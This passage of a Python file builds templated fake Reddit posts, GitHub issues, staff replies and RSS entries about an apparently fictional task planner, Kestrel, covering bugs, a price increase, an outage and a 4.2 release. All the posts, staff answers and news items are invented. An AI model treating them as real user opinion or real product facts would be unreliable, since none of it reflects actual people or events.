The Slack integration moving to Team is the real price increase for solo users.
We're {nn} seats. The increase is about ${big} a year. Not leaving, but not happy.
The Saturday email is what annoyed me most. Just be straightforward about it.
Same. We just migrated in the summer. Feels like bait and switch.
Cancelled. Not because of $2, because I don't trust the next email.
"""),
    "price_neu": L("""
Annual plans keep the old price until renewal, according to the blog post.
Support told me nonprofit discounts are coming "very soon". Worth emailing them.
"""),
    "price_pos": L("""
Honestly, same. I'd rather pay $10 than lose the app.
It's still cheaper than Asana per seat. People forget that.
"""),
    "outage_neg": L("""
Down here too, EU workspace. 502 on everything.
Same in {city}. Started around {mins} minutes ago.
Desktop app is useless in this state, it won't even let me edit offline.
Status page took forever to update. Found out from Mastodon first.
Our whole standup was in there. Now we're just looking at each other.
"""),
    "outage_neu": L("""
Back for us as of a few minutes ago. Restart the app if it's still stuck.
US workspace here, no problems. Seems EU only.
"""),
    "after_pos": L("""
Agreed, that's a solid postmortem. The jitter fix is already in 4.2.2.
"""),
    "after_neg": L("""
~tasks|gone|sync~Same thing happened to one of ours. Two tasks created during the outage never showed up.
"""),
}

REDDIT_REPLY = {
    "agree_neg": L("""
This. Exactly this.
Came here to say the same. It's been like this for months.
Yep. The app is good otherwise, which makes it more frustrating.
"""),
    "help": L("""
~Android|slow~Check Settings → Advanced → "Preload all projects", turning it off helped me a lot.
Open a ticket with the diagnostics export, they're usually quick when you include that.
There's a GitHub issue tracking this, add your details there: {issue}
"""),
    "disagree": L(r"""
~Android~Not my experience at all, but I'm on iOS, so maybe that's the difference.
~price|increase|\$~I mean, every SaaS raises prices eventually. $2 a month is hardly a scandal.
~outage|down|backup~Eh, the outage was bad but four hours a quarter isn't unusual for SaaS.
"""),
    "agree_pos": L("""
Glad it's not just me who loves this.
Same experience. Took two weeks for everyone to get used to it, then nobody wanted to go back.
"""),
    "answer": L("""
~Team|residency|plan|guest~Yes, Team and up. Enterprise gets EU data residency guarantees in the contract.
~integration|Slack|calendar|GitHub~It's in Settings → Integrations. Took me a while to find too.
The docs cover it here: {docs}
"""),
}

# More Reddit material.
REDDIT_POST["bug"] += B("""
Notifications on iOS arrive hours late

Reminders for tasks due at 9:00 show up around 11. Background refresh is on, focus modes are off, other apps notify fine. {iphone}, Kestrel {ver}. Anyone found a fix?
%%
Search doesn't find tasks by words in the description

Is this expected? I can find tasks by title, but anything that's only mentioned in the description or a comment is invisible. We have {big} tasks, so "just scroll" isn't an option.
%%
Time zone mess with a distributed team

Half the team is in {city}, half in New York. Tasks due "Friday" show as due Thursday for the US folks. Is there a workspace setting I'm missing?
%%
Guests counted as paid seats?

We invited {n} clients as guests to one board. This month's invoice counts them as members. Support is looking into it, but has anyone else seen this?
%%
Checklist items duplicated after working offline

Edited a checklist on my phone on the train, then on my laptop. After sync I had every item twice. Not the end of the world, but annoying to clean up. Version {ver}.
%%
Keyboard shortcuts broken in Firefox?

Since a few days, half the shortcuts do nothing in Firefox. Chrome works. Anyone else, or is it an extension on my side?
""")
REDDIT_POST["praise"] += B("""
Kestrel + CalDAV + Fastmail is a great combo

For anyone avoiding Google: calendar sync via CalDAV works well. Tasks with due dates show as events, and changes go both ways. Took five minutes to set up.
%%
Support fixed my import on a Sunday

Our Jira import stalled halfway through. I emailed support on a Sunday expecting nothing until Tuesday. Got a reply within an hour and the import finished that afternoon. Just wanted to say thanks.
%%
r/productivity|Recurring tasks that reschedule from completion are life-changing

Small feature, big difference: "water the plants every 5 days after I actually did it" instead of every 5 days no matter what. Kestrel does this and it's the reason my recurring list doesn't pile up anymore.
%%
Using the Slack integration for standups

We post "what I did / what I'm doing" straight from Kestrel into Slack with /kestrel standup. It pulls tasks you moved yesterday. Saves our team about ten minutes a day.
""")
REDDIT_POST["question"] += B("""
Can guests be assigned tasks?

We work with freelancers who shouldn't be full members. Can a guest be the assignee of a task, or only comment?
%%
How do you use labels vs projects?

We're a team of 8 and keep arguing about whether "client" should be a project or a label. What's worked for you?
%%
Any way to export the timeline as an image?

I need to put our roadmap into slides every month. Is there a way to export the timeline view as PNG or PDF?
%%
Is there an audit log on Team?

Our security team wants to see who changed what and when. I see an activity feed per task, but is there a workspace-wide log?
%%
r/sysadmin|Anyone deployed Kestrel with SCIM and Entra ID?

Looking at Kestrel Enterprise for ~300 users. SAML looks straightforward, but I'd like to hear how SCIM provisioning behaves in practice, especially deprovisioning.
""")
REDDIT_POST["request"] += B("""
Let us mute a project for a week

During launches one project generates hundreds of notifications. A "mute for 7 days" button per project would make life much easier.
%%
Interactive widgets on iOS please

iOS has supported interactive widgets for a while. A "Today" widget where I can tick tasks off without opening the app would be perfect.
""")
REDDIT_POST["compare_neu"] += B("""
r/productivity|What do you use for household tasks with a partner?

Looking for something we both actually use. Kestrel, Todoist shared projects and a shared Apple Reminders list are the candidates. Experiences?
%%
r/projectmanagement|Gantt chart tools that non-PMs won't hate?

I need a timeline view that marketing and ops will actually look at. Considering Kestrel, Asana and TeamGantt. Which one did your stakeholders actually open?
""")
REDDIT_POST["sarcasm"] += B("""
Thank you for the onboarding tour, for the fifth time

Every time I log in on a new browser, the tour starts again. I have been using this app for two years. I know where the board is.
""")
REDDIT_POST["misc"] += B("""
r/productivity|How I plan a week in 15 minutes

Sunday evening: open the board, drag everything that matters into "This week", limit it to what fits, done. The tool matters less than the habit, but a fast board helps. I use Kestrel.
%%
Our school's robotics club runs on the free tier

Thirty students, four mentors, one board per subsystem. The kids figured it out faster than the mentors did.
""")
REDDIT_POST["release_pos"] += B("""
Baselines in the new timeline saved a meeting

Showed the client the September plan next to the current one. Twenty minutes of "why is this late" became two minutes of "oh, the scope changed here". Love this feature.
""")
REDDIT_POST["release_q"] += B("""
How do I add a milestone in the new timeline?

The release notes mention milestones but I can't find how to create one. Is it a task type, a setting, or not on my plan?
""")
REDDIT_POST["price_neg"] += B("""
Freelancers are hit hardest by the Slack change

Solo Pro users who rely on the Slack integration now need Team, which is per seat with a minimum of three. That's not a 25% increase for us, it's a 400% one.
%%
r/SaaS|Our SaaS bill went up 22% this year without adding a single tool

Kestrel is just the latest. Every vendor has a "we're investing in the product" email. At some point finance will make us consolidate, and the tools with the worst communication will be the first to go.
""")
REDDIT_POST["price_neu"] += B("""
Calculator: what the new pricing means for your team

Made a quick spreadsheet: seats × new price × 12 minus old. For most teams under 20 seats, it's less than $1,000 a year. Posting in case it's useful for budget discussions.
""")
REDDIT_POST["outage_neg"] += B("""
Can't log in at all

Stuck on "Connecting…", then it logged me out, and now the login page gives 502. Lesson learned: don't log out during an outage.
""")
REDDIT_POST["outage_neu"] = B("""
Outage update from the status page

Posting for visibility: they've identified the cause of the EU sync problem and are rolling out a fix. Local changes are kept; don't sign out.
""")
REDDIT_POST["after_neg"] += B("""
What's your backup plan for when Kestrel is down?

After Monday, my boss wants a plan B. Nightly JSON export to a shared drive? A printed board? What do other teams do?
""")

REDDIT_COMMENT["bug"] += L("""
~iOS|notif|iPhone~iOS notifications are late for me too. Turning off "Optimize notification delivery" in the app's settings helped a bit.
~search~Search only covers titles, unfortunately. We put keywords in titles as a workaround, which is as silly as it sounds.
~guest|seat|invoice~The guest billing thing is a known bug, they refunded us within a week.
~Firefox|shortcut~Firefox with uBlock breaks some shortcuts for me. Whitelisting the app fixed it.
~checklist|offline|duplicat~Duplicated checklist items after offline edits happened to me twice. Annoying but nothing was lost.
~time zone|Friday|Thursday~Set the workspace time zone in admin settings, it fixed the Friday/Thursday thing for us.
~Android~We switched the whole team to the web app on Android. It's honestly better than the native app right now.
""")
REDDIT_COMMENT["praise"] += L("""
~CalDAV|Fastmail|calendar~CalDAV with Fastmail works great for me too. Two-way sync, no duplicates so far.
~Slack|standup~The Slack standup command is so handy. We stopped doing spoken standups twice a week because of it.
~support~Same experience with support. Actual humans who know the product.
~recurr|reschedul|completion~The rescheduling-from-completion thing is exactly why I switched from Todoist.
""")
REDDIT_COMMENT["question"] += L("""
~guest~Guests can be assigned on Team and above, I think. On Pro they can only comment.
~label~We use projects for clients and labels for the type of work. Much easier to filter.
~export|PNG|PDF|image|slides~There's an export button in the timeline toolbar, PNG and PDF. Took me a while to spot it.
~audit~Workspace-wide audit log is Enterprise only, as far as I know.
~SCIM|Entra|SSO~SCIM with Entra worked fine for us, deprovisioning removes the seat within a few minutes.
""")
REDDIT_COMMENT["request"] += L("""
~mute|notif~Muting projects would be great. Launch weeks are a notification nightmare.
~widget~Yes to interactive widgets. It's the one thing I miss from Apple Reminders.
""")
REDDIT_COMMENT["compare_neu"] += L("""
~household|partner~We use a shared Kestrel board for the household. The recurring tasks for bins and bills are the killer feature.
~Gantt~TeamGantt is more of a pure Gantt tool. If you want the whole team in one place, Kestrel is the better fit.
""")
REDDIT_COMMENT["sarcasm"] = L("""
The onboarding tour appearing every time is my favourite feature. I've completed it more times than any actual task.
Can't wait for next month's "we moved it again, you're welcome".
""")
REDDIT_COMMENT["misc"] += L("""
~week~The 15-minute weekly plan is exactly how I work too. A short list for the week is the whole trick.
~school|kids|robotics~Love this. Kids are often better at Kanban than adults.
""")
REDDIT_COMMENT["release_pos"] += L("""
Baselines are so good for client conversations. Same experience.
The new timeline is the first Gantt view I don't hate.
""")
REDDIT_COMMENT["release_q"] += L("""
~milestone~Milestones are a task type now: create a task, set the type to milestone, it becomes a diamond on the timeline.
""")
REDDIT_COMMENT["price_neg"] += L("""
The Slack change is the real problem for freelancers. We're looking at alternatives for the first time.
It's not the money, it's the way they announced it.
Our finance team asked me to list alternatives. First time in three years.
""")
REDDIT_COMMENT["price_neu"] += L("""
~calculator|spreadsheet~Thanks for the spreadsheet, that's really useful for our budget discussion.
For us it's about $600 a year more. Annoying, not a dealbreaker.
""")
REDDIT_COMMENT["outage_neg"] += L("""
~log(ged)? (me )?out|login|log in~Don't log out! Learned that the hard way too.
Even the API is returning 502 for us. Our automations are all failing.
""")
REDDIT_COMMENT["outage_neu"] += L("""
Thanks for posting the update. Ours came back a few minutes ago.
""")
REDDIT_COMMENT["after_neg"] += L("""
~backup|plan B~We set up a nightly JSON export after Monday. Better safe than sorry.
""")
REDDIT_COMMENT["after_pos"] += L("""
The postmortem convinced me to stay, honestly. They clearly understand what went wrong.
""")
REDDIT_REPLY["agree_neg"] += L("""
Same here, unfortunately.
Yeah, we've been dealing with this for weeks.
""")
REDDIT_REPLY["agree_pos"] += L("""
Agreed, it's been great for us too.
""")

# GitHub issues for kestrel-hq/kestrel (first line = title) and issue comments.
GH_ISSUE = {
    "bug": B("""
Calendar sync creates duplicate events for recurring tasks

**Describe the bug**
With {cal} connected, every occurrence of a recurring task is created twice (sometimes {n} times) in the external calendar.

**To reproduce**
1. Connect {cal} under Settings → Integrations → Calendar
2. Create a task that repeats every weekday
3. Wait for the next sync cycle (~5 min)

**Expected behavior**
One event per occurrence.

**Environment**
- Kestrel {ver} (web)
- Calendar: {cal}
%%
Android: cold start takes 6–9 s on mid-range devices

**Describe the bug**
Opening the app from a cold start shows the splash screen for several seconds before the board renders. Profiling with `adb shell am start -W` gives TotalTime between 6100 and 9400 ms.

**Environment**
- Kestrel Android {ver}
- {phone}, Android 15
- Workspace with ~{big} tasks

**Additional context**
Most of the time is spent before the first network request, so this looks like local database load rather than sync.
%%
Webhook deliveries are sometimes sent twice

We receive the same `task.updated` delivery twice, 5-10 minutes apart, with identical payloads. There is no delivery id in the payload, so we can't dedupe reliably.

```
2026-11-07T09:14:02Z POST /hooks/kestrel 200 task.updated task=T-88214
2026-11-07T09:21:47Z POST /hooks/kestrel 200 task.updated task=T-88214
```

Could you add an idempotency key (or document the `X-Kestrel-Delivery` header if that's what it's for)?
%%
Recurring "every weekday" task created on Saturday after DST change

**Describe the bug**
Since the DST change, a task set to repeat every weekday was generated on Saturday and skipped the following Monday.

**To reproduce**
1. Set device time zone to Europe/Berlin
2. Create a task repeating "every weekday" before the DST change
3. Observe the occurrences after the change

**Environment**
- Kestrel desktop {ver}, {os}
%%
Trello import drops checklists silently

Importing a Trello board JSON export with checklists on most cards: cards are imported, checklists are not, and the import summary says "0 warnings".

- Kestrel {ver} (web)
- Trello export from November 2026, 412 cards

Expected: checklists imported as subtasks or checklist items, or at least a warning.
%%
API returns 500 when filtering by custom field containing emoji

```
GET /v1/tasks?filter[custom.status]=🚧 Blocked
HTTP/1.1 500 Internal Server Error
{"error":{"code":"internal","message":"An unexpected error occurred","request_id":"req_8fK2mQ"}}
```

Filtering by the same field with a plain-text value works. URL-encoding the emoji doesn't change anything.
%%
Desktop: memory grows to >1.5 GB over a working day

Kestrel desktop {ver} on {os}. Starts at ~350 MB, grows steadily, ends the day at 1.5-1.8 GB. Restarting fixes it. Happens with the board view open; with list view it grows much slower. Heap snapshot available on request.
%%
Keyboard shortcuts stop working after using the search box

**Steps**
1. Press `/` to focus search, search for anything
2. Press `Esc`
3. Press `c` to create a card — nothing happens

Shortcuts only work again after clicking somewhere in the board.

**Environment**: Kestrel web, Firefox 133, {os}
%%
SAML login loop in Firefox with Enhanced Tracking Protection

With ETP set to Strict, SAML login via Entra ID returns to the login page in a loop. Chrome works. Looks like the session cookie set on the ACS redirect is treated as third-party.

Kestrel web, Firefox 133 on {os}.
%%
Subtask order resets when the task is opened on iOS

Reorder subtasks on web → open the task on iOS → order on all clients reverts to creation order. Reproducible every time.

- Kestrel iOS {ver}, {iphone}
- Kestrel web
"""),
    "request": B("""
Feature request: idempotency key on webhook deliveries

Please add a stable delivery id to each webhook payload (and keep it across retries) so consumers can deduplicate. Right now retried deliveries are indistinguishable from new events.
%%
Feature request: `updated_since` filter on GET /v1/tasks

For incremental sync we currently page through every task in the workspace. A filter like `updated_since=2026-11-01T00:00:00Z` (or a changes feed) would cut our API usage by 95%.
%%
Support GitLab in the code integration

The GitHub integration is great. About half our teams are on GitLab (self-managed). Linking merge requests to tasks the same way would let us drop a custom bridge we maintain.
%%
Week numbers in the timeline and date picker

ISO week numbers are standard in much of Europe. Please add an option to show them in the new timeline header and in the date picker.
%%
CLI: official command-line client

There are a few community CLIs, but an official one with auth handled properly (device flow) would be great for scripting.
%%
Expose WIP limits per board column

Allow setting a maximum number of cards per column, with a visual warning when exceeded. Optional hard limit for admins.
"""),
    "question": B("""
Question: API rate limits per token or per workspace?

The docs say "fair use". We run four integrations in one workspace and occasionally get 429s. Is the budget per token or shared? Is there a header with the remaining budget?
%%
Question: is the OpenAPI spec versioned?

We generate a client from `https://api.kestrel.app/v1/openapi.json`. Is there a changelog or versioned URL so generated clients don't break silently?
%%
How are offline edits to the same field resolved?

Trying to understand conflict resolution for offline edits. Is it last-writer-wins per field with a server timestamp, or something client-side? Asking because we saw a description revert after two offline edits.
"""),
    "release_neg": B("""
[4.2.0] Timeline renders blank on Windows until the window is resized

After updating to 4.2.0, the new timeline shows an empty grid on Windows. Resizing the window by a single pixel renders it correctly. Board and list views are not affected.

- Kestrel desktop 4.2.0
- {os}
- GPU: Intel Iris Xe, driver 31.0.101.5590
%%
[4.2.0] Week numbers missing from the new timeline

The old Gantt view showed ISO week numbers in the header. The new timeline in 4.2.0 does not, and there's no setting for it. Regression for teams planning by calendar week.
%%
[4.2] Android crashes when opening the timeline

```
FATAL EXCEPTION: main
Process: app.kestrel.android, PID: 21877
java.lang.IllegalStateException: Canvas size exceeds max texture size (16384)
    at app.kestrel.timeline.TimelineRenderer.allocate(TimelineRenderer.kt:212)
    at app.kestrel.timeline.TimelineView.onSizeChanged(TimelineView.kt:88)
```

{phone}, Android 15, Kestrel 4.2.0. Happens on projects spanning more than ~18 months.
%%
[4.2.0] Recurring tasks skip every other occurrence

Since 4.2.0, a task repeating "every week on Tuesday" creates an occurrence every two weeks. Tasks created before the update are fine; new ones aren't.
"""),
    "release_q": B("""
Is there an API for the new timeline (baselines, dependencies)?

4.2 adds dependencies and baselines to the timeline. Are these exposed in the REST API? We'd like to push planned dates from our ERP.
"""),
    "outage_neg": B("""
Sync fails with 502 on large workspaces

Since about 13:00 UTC all sync requests from our EU workspace fail:

```
[2026-11-16T13:04:11.204Z] WARN  sync: GET /v1/sync/catchup?cursor=c_88a1 -> 502 Bad Gateway (attempt 14)
[2026-11-16T13:04:12.207Z] WARN  sync: GET /v1/sync/catchup?cursor=c_88a1 -> 502 Bad Gateway (attempt 15)
[2026-11-16T13:04:13.209Z] ERROR sync: giving up websocket upgrade, falling back to polling
```

Desktop shows "Connecting…" indefinitely. Workspace has ~{big} tasks.
%%
Client retries sync in a tight loop during server errors

During today's outage our proxy recorded ~1 request per second per desktop client to /v1/sync/catchup. With a few hundred clients this looks like it could make recovery harder. Please add exponential backoff with jitter.

Kestrel desktop {ver}, {os}.
%%
Editing is disabled while "Connecting…" is shown

While the client can't reach the sync server, the UI disables editing on most fields. Offline mode works when the network is fully down, but not when the server returns errors. Expected: edits are queued like in offline mode.
"""),
    "outage_neu": B("""
Document client behaviour during server-side outages

After today's incident it would help to document what the clients do when the sync server returns 5xx: how long before offline mode kicks in, whether edits are queued, and how to check the pending queue.
"""),
}

GH_COMMENT_USER = {
    "bug": L("""
Same here on {ver}, {os}.
+1, also seeing this. Happy to provide logs if useful.
~Android|cold start~Can reproduce on {phone}, Android 15. Cold start ~7 s.
~calendar|duplicat~Workaround for now: disconnect the calendar, delete the generated calendar, reconnect. Duplicates stop for a few days.
This started for us after upgrading from {prev}. Downgrading fixes it.
Any update on this? It's affecting our whole team (~{nn} people).
~webhook|deliver~We dedupe on `(task_id, updated_at)` as a workaround, but a proper delivery id would be much better.
"""),
    "request": L("""
+1, this would let us delete a lot of glue code.
Strong +1. We'd use this on day one.
Would also love this. For reference, we currently poll every 5 minutes and it's wasteful for everyone.
"""),
    "question": L("""
Also interested in the answer. We see 429s at roughly the same volume.
Would be great to have this in the docs.
"""),
    "release_neg": L("""
~Windows|blank~Same on 4.2.0, Windows 11 with an Intel GPU. NVIDIA machines seem fine.
~week~Confirmed, week numbers are gone for us too.
~crash|Android~Same crash on a Pixel 7 with a 2-year project.
Fixed for me in 4.2.1, thanks!
"""),
    "release_q": L("""
~API|baseline~+1, we'd like to set baselines from the API too.
"""),
    "outage_neg": L("""
Same for us, EU workspace, 502 since ~13:00 UTC.
~retry|loop|backoff|proxy~Confirming the retry loop: our egress proxy shows thousands of requests per minute from Kestrel clients.
+1. Offline mode should kick in when the server is down, not only when the network is.
"""),
    "outage_neu": L("""
Recovered on our side around 17:00 UTC. Pending changes synced after an app restart.
"""),
}

GH_COMMENT_STAFF = {
    "bug": L("""
Thanks for the detailed report! We can reproduce this and are working on a fix. I'll update this issue when it ships.
Thanks. Could you attach the diagnostics from Help → Export diagnostics? Please remove anything sensitive first.
This should be fixed in {ver}. Could you update and confirm? Closing for now, feel free to reopen.
Duplicate of #{dupe}, let's continue there.
~Android|cold start|slow~We've identified the cause (local database migration runs on every cold start). Fix is scheduled for the next Android release.
"""),
    "request": L("""
Thanks for the suggestion! Adding this to our roadmap discussion. No timeline yet, but we'll update here.
This is on our list for Q1. A design doc will be shared for feedback when we get there.
"""),
    "question": L("""
~rate|429|limit~Rate limits are per token: 120 requests/minute on Pro, 600 on Team. The `X-RateLimit-Remaining` header shows the budget. We'll add this to the docs.
~offline|conflict|resolved~Good question. Scalar fields are last-writer-wins with hybrid logical clocks; descriptions use a text CRDT. There's a write-up here: https://kestrel.app/blog/how-offline-sync-works
"""),
    "release_neg": L("""
~Windows|blank~Thanks, confirmed. This is a canvas invalidation issue on some Intel drivers; fixed in 4.2.1.
~week~Week numbers are back in 4.2.1 (Settings → Timeline → Show week numbers). Sorry for the regression!
~crash|Canvas|Android~Thanks for the stack trace, very helpful. Fixed in 4.2.1 by tiling the canvas.
"""),
    "release_q": L("""
~API|baseline|dependenc~Not yet — dependencies are exposed in the API as of 4.2 (`/v1/tasks/{id}/dependencies`), baselines will follow.
"""),
    "outage_neg": L("""
Thank you, and sorry. This is the EU sync incident (https://status.kestrel.app). We're deploying a fix now.
~retry|loop|backoff|proxy|offline~Agreed. Jittered exponential backoff is in 4.2.2, and the postmortem covers why the client didn't fall back to offline mode.
"""),
    "outage_neu": L("""
Good idea, we'll document this together with the postmortem follow-ups.
"""),
}

# Shorter GitHub issues: "title | what happened | what was expected", laid out in one of
# the three shapes people actually use (issue form, bug template, one paragraph).
GH_SPECS = {
    "bug": L("""
Board scroll position resets after every card move|After moving a card between columns, the board jumps back to the first column. With 12 columns this makes triage painful.|Scroll position stays where it was.
Due date picker ignores the workspace's first day of week|The date picker always starts weeks on Sunday, even though the workspace is set to Monday.|Weeks start on Monday in the picker too.
Markdown code blocks lose indentation in task descriptions|Pasting a fenced code block into a description strips leading spaces on save. Python snippets become invalid.|Whitespace inside code blocks is preserved.
Attachments over ~100 MB fail without an error|Uploading a 140 MB video shows a progress bar that stops at 99% and never completes. No error is displayed.|A clear error, or resumable uploads.
Slack integration ignores "only assigned to me" filter|The Slack channel receives notifications for every comment in the project even with the filter set to "assigned to me".|Only notifications for my tasks.
Desktop app starts minimised and can't be restored on Linux|On GNOME with Wayland, the app starts in the tray and clicking the tray icon does nothing.|The main window opens.
Recurring task with "last working day" lands on a public holiday|A task set to repeat on the last working day of the month was created on a bank holiday, although the workspace holiday calendar is set.|Holidays are skipped.
CSV export breaks on task titles containing newlines|Titles with embedded newlines aren't quoted, so the CSV has extra rows. Excel shows garbage.|Fields with newlines are quoted.
Comment mentions don't notify users with accents in their name|Mentioning @José does not send a notification; @Jose (another user) gets it instead.|The right person is notified.
Dark mode: white flash when switching projects|Switching projects in dark mode briefly renders a white background before the board appears.|No flash.
Undo toast disappears before it can be clicked|The undo toast after archiving a column is shown for about 1.5 seconds, which isn't enough to reach it with a trackpad.|Show it for longer, or make it keyboard-accessible.
Webhook retries don't back off|When our endpoint returned 503 for a few minutes, Kestrel retried every delivery every second.|Exponential backoff with jitter.
API: pagination cursor expires after 60 seconds|Paging through a large task list with a short pause between pages fails with `cursor_expired`.|Cursors valid for at least several minutes.
iOS share extension creates tasks in the wrong project|Sharing a link from Safari into Kestrel always creates the task in the first project, not the one selected in the sheet.|The selected project is used.
Timeline export to PDF cuts off task names|Long task names are truncated mid-word in the PDF export without an ellipsis.|Names wrap or get an ellipsis.
Keyboard shortcut "e" opens edit on the wrong card|With multiple cards selected, pressing `e` edits the first selected card instead of the focused one.|The focused card is edited.
Archived projects still appear in "My tasks"|Tasks from archived projects keep showing in the My tasks view and in reminders.|Archived projects are excluded.
Trello import maps labels to the wrong colours|Imported labels get random colours instead of the original Trello colours.|Colours match the source board.
"""),
    "request": L("""
Allow custom fields on subtasks|Custom fields exist on tasks but not subtasks. We track estimates on subtasks.|Same custom fields on subtasks.
Option to hide completed subtasks|Long checklists get unreadable once most items are done.|A toggle to hide completed subtasks.
Support RRULE import from iCal|Recurring events imported from .ics lose their recurrence rules.|RRULEs are preserved.
Bulk edit due dates|Moving a launch by a week means editing 60 tasks one by one.|Select several tasks and shift dates.
Read-only API tokens|All tokens have write access, which makes reporting integrations riskier than necessary.|A read-only scope.
"""),
    "question": L("""
Is there a sandbox workspace for API testing?|We'd like to test integrations without touching production data. Is there a sandbox or test mode?|
What are the webhook IP ranges?|Our firewall only allows known IPs. Are Kestrel's webhook source ranges published somewhere?|
How long are deleted tasks kept?|We need this for our data retention policy. Is it 30 days in the trash, and then hard deletion?|
"""),
}


def _gh_from_specs() -> None:
    for topic, specs in GH_SPECS.items():
        for i, spec in enumerate(specs):
            title, what, expected = ([*spec.split("|"), "", ""])[:3]
            style = i % 3
            if topic == "request":
                body = (
                    f"### Problem\n\n{what}\n\n### Proposed solution\n\n{expected}"
                    if style != 2
                    else f"{what} {expected}"
                )
            elif topic == "question":
                body = what + ("\n\nThanks!" if style == 1 else "")
            elif style == 0:
                body = (
                    f"### What happened?\n\n{what}\n\n"
                    + (f"### What did you expect?\n\n{expected}\n\n" if expected else "")
                    + "### Version\n\n{ver}\n\n### Platform\n\n{platform}"
                )
            elif style == 1:
                body = (
                    f"**Describe the bug**\n{what}\n\n"
                    + (f"**Expected behavior**\n{expected}\n\n" if expected else "")
                    + "**Environment**\n- Kestrel {ver}\n- {os}"
                )
            else:
                body = (
                    what
                    + (" " + expected if expected and topic != "bug" else "")
                    + "\n\nKestrel {ver} on {os}."
                )
            GH_ISSUE.setdefault(topic, []).append(f"{title}\n\n{body}")


_gh_from_specs()

GH_COMMENT_USER["bug"] += L("""
Seeing this as well since {ver}. Attached a screen recording in the support ticket.
Is there any workaround in the meantime? This blocks our weekly planning.
Reproduced on a fresh workspace, so it isn't data-specific.
Still happening on {ver}.
Can confirm on the web app too, not only desktop.
Our team of {nn} hits this daily. Happy to test a fix.
For anyone searching: restarting the app clears it for a few hours.
""")
GH_COMMENT_USER["request"] += L("""
Our use case: we'd use this for client reporting every week.
Would this also cover subtasks? That's where we need it most.
This is the main thing keeping us on a second tool.
""")
GH_COMMENT_USER["question"] += L("""
Would also like to know. Our security review is waiting on this.
Bumping this, we need it for compliance documentation.
""")
GH_COMMENT_USER["outage_neg"] += L("""
Same here, our whole org is blocked. EU region.
~502|sync~Also seeing 502 on `/v1/tasks` from our integration, not just sync.
""")
GH_COMMENT_STAFF["bug"] += L("""
Thanks for reporting! I've added this to our backlog with high priority.
We've shipped a fix in {ver}. Please let us know if it persists.
I can't reproduce this on a clean install. Could you share your settings export (Settings → Advanced → Export)?
""")
GH_COMMENT_STAFF["request"] += L("""
Thanks! We're collecting use cases for this. Could you describe how you'd use it day to day?
""")
GH_COMMENT_STAFF["question"] += L("""
~sandbox~Good question. There isn't a sandbox yet, but you can create a free workspace for testing; API limits are the same.
~delet~Deleted tasks stay in the trash for 30 days and are hard-deleted within 7 days after that. We'll add this to the docs.
""")

# Generic replies (no keyword tag) so that a reply never has to borrow an answer that
# belongs to a different question.
SHORT_REPLY["answer"] += L("""
good question, following
pretty sure there's a help center article on this, search their docs
their support answered something similar for me within a day, worth asking
not that I know of 😕
I don't think so, but would love to be wrong
""")
SHORT_REPLY["help"] += L("""
might be worth opening a ticket, they were quick when I had something similar
did you try the web app? if it works there it's probably a local cache thing
""")
SHORT_REPLY["to_brand"] = L("""
thanks! DM sent
DM'd you the workspace id
appreciate the quick reply 🙏
thanks, any ETA?
will do, thanks
ok, sent the diagnostics. fingers crossed
thanks for answering on a Sunday, didn't expect that
""")
SHORT_REPLY["release"] = L("""
finally!! 🙌
is it on Android yet?
been waiting for this one. baselines 😍
does this include week numbers? asking for all of Europe
congrats on the release!
updating right now
""")
REDDIT_COMMENT["question"] += L("""
Following, I'd like to know too.
Support answered a similar question for us within a day. Worth emailing them.
Not sure, but there's a thread about this on their community forum.
Check the help center, I'm fairly sure there's an article on it.
""")
REDDIT_COMMENT["request"] += L("""
+1, would use this daily.
Upvoted. This would save us so much time.
""")
REDDIT_COMMENT["compare_neu"] += L("""
Depends on who has to use it every day. Pick the one they'll actually open.
We trialled two of these for a month each. The one people kept using without reminders won.
""")
REDDIT_COMMENT["release_q"] += L("""
Good question, I couldn't find it either.
""")
REDDIT_COMMENT["misc"] += L("""
Love seeing how other people set things up. Saving this.
""")
REDDIT_REPLY["answer"] += L("""
Not sure, but support usually answers these within a day.
""")
HN_REPLY["answer"] += L("""
I don't know, but their support has been responsive when we've asked questions like this.
Not that I'm aware of. It would be worth asking them directly.
""")
GH_COMMENT_STAFF["question"] += L("""
Thanks for asking! I'll check with the team and update this issue.
""")
GH_COMMENT_STAFF["release_neg"] += L("""
Thanks for the report. We're looking into this regression and will update here.
""")
GH_COMMENT_USER["release_neg"] += L("""
Same here after updating to {ver}.
""")

# RSS: blog posts and news/alert entries.  First line is the entry title, the rest the
# summary or full content the feed carries.
RSS = {
    "praise": B("""
Six months of Kestrel: what stuck and what didn't

We moved our small studio to Kestrel in the spring. The board and recurring tasks carried the whole team; the timeline won over the client-facing people. The Android app remains the weak spot, but the rest of the product has earned its place.
%%
The quiet joy of a planner that gets out of the way

Most productivity apps want to be your second brain. Kestrel is content to be a list with good keyboard shortcuts, and that's exactly why it works for me.
%%
How we run our weekly planning in Kestrel

A walkthrough of our setup: one board per team, a shared "This week" filter, and a ritual every Monday that takes fifteen minutes instead of an hour.
"""),
    "bug": B("""
Kestrel on Android: a performance investigation

I profiled the Kestrel Android app on three devices to understand why it feels slow. Most of the cold-start time goes to loading the local database before the first frame. Details, traces and a few guesses about the fix.
%%
When offline sync goes wrong: a small Kestrel horror story

A description I edited on a train vanished after sync. It came back through the history view, but the experience is a good lesson in how last-writer-wins feels to users.
"""),
    "compare_neu": B("""
Kestrel vs Linear vs Asana: which planner for a mixed team?

We compared the three on speed, adoption by non-engineers, reporting, integrations and price. There's no single winner; it depends on who has to use the tool every day.
%%
The best project management tools for small teams in 2026

Our annual roundup: Kestrel, Linear, Asana, Trello, ClickUp and Notion, tested with a ten-person team for two weeks each.
"""),
    "compare_pos": B("""
Why we left Trello for Kestrel

Trello served us well for six years. Here's why we finally moved: timeline planning, recurring tasks that make sense, and a board that stays fast with thousands of cards.
"""),
    "misc": B("""
Google Alert - Kestrel

Kestrel raises Series B to expand in Europe ... The Copenhagen-founded maker of the Kestrel task planner said the funding would go toward its mobile apps and an EU data centre ...
%%
Kestrel - Google Alerts

Job posting: Senior Android Engineer (Remote, EU) at Kestrel ... help us make our Android app fast ... Kotlin, Jetpack Compose, SQLite ...
%%
Google Alert - Kestrel app

Local school district adopts Kestrel for curriculum planning ... teachers say the shared boards replaced a tangle of spreadsheets ...
"""),
    "release_pos": B("""
Kestrel 4.2 brings a rebuilt timeline view

The update adds dependencies you can drag, critical-path highlighting, baselines, and a canvas renderer that stays smooth with thousands of tasks. It is rolling out to all plans now, with Android following.
%%
Hands-on with Kestrel's new timeline

We spent a day with the new timeline in Kestrel 4.2. It's the best Gantt-style view we've used in a mainstream planner, with one annoying omission: week numbers.
%%
Google Alert - Kestrel

